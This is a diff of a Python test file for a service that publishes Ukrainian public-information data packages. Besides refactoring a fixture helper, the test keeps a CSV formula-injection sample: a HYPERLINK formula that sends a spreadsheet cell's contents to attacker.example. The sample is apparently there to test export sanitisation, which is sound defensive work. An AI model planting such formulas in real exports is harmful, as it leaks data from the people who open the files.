@@ -22,7 +22,16 @@ from models.services.publication_package import validate_package
 from models.standards import field_names
 from tests.doubles.ckan import PUBLISH_TOKEN, PublishPortal, allow_portal
 from tests.doubles.loopback import loopback_server
-from tests.factories import at, create_organization, launch, login, plan, questionnaire, token_of
+from tests.factories import (
+    at,
+    create_organization,
+    full_item,
+    launch,
+    login,
+    plan,
+    questionnaire,
+    token_of,
+)
 
 OWNER = "test-rada"
 TOKEN = PUBLISH_TOKEN
@@ -102,7 +111,7 @@ def _approved_cycle(client: TestClient, clock: FixedClock) -> tuple[int, dict[st
                     "email": "p@example.org",
                     "phone": "+380 (50) 123-45-67",
                 },
-                "items": [_full_item(1), {**_full_item(2), "description": FORMULA}],
+                "items": [full_item(1), {**full_item(2), "description": FORMULA}],
             },
         ).status_code
         == 201
@@ -119,31 +128,6 @@ def _approved_cycle(client: TestClient, clock: FixedClock) -> tuple[int, dict[st
 
 # A description a spreadsheet would run (CSV formula injection), typed by a staff member.
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Архів")'
-
-
-def _full_item(n: int) -> dict[str, object]:
-    """An information item with every field the infoAudit structure requires."""
-    return {
-        "name": f"Вид інформації {n}",
-        "description": "Архів розпоряджень",
-        "kept_in": "Система 1",
-        "update_frequency": "щотижня",
-        "approx_records": 1500,
-        "legal_basis": "Закон України «Про доступ до публічної інформації»",
-        "format": "DOCX",
-        "restricted_fields": "немає",
-        "data_type": "реєстр документів, електронний",
-        "date_created": "2016-01-01",
-        "source": "проєкти розпоряджень",
-        "public_interest": "раз на рік",
-        "government_interest": "раз на місяць",
-        "structure": "номер, дата, назва",
-        "documentation": "інструкція користувача",
-        "developer_name": "ТОВ «Діловод солюшенс»",
-        "developer_id": "12345678",
-        "dictionary": "немає",
-        "size": "2 ГБ",
-    }
 
 
 def _rows(path: Path) -> list[list[str]]:
